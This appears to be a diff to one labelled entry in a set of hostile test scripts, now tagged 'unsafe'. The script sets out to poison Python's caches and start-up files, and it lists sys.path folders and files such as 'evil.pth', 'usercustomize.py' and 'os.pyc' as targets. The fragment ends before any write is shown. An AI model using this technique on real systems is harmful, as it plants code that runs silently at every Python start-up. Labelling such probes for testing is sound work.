@@ -1,5 +1,6 @@
 # tries: poison Python's caches and start-up files
 # place: first
+# stock: unsafe
 import os, sys, site
 for folder in sys.path + [site.getusersitepackages(), os.path.dirname(os.__file__)]:
     for name in ("evil.pth", "usercustomize.py", "__pycache__/os.pyc"):
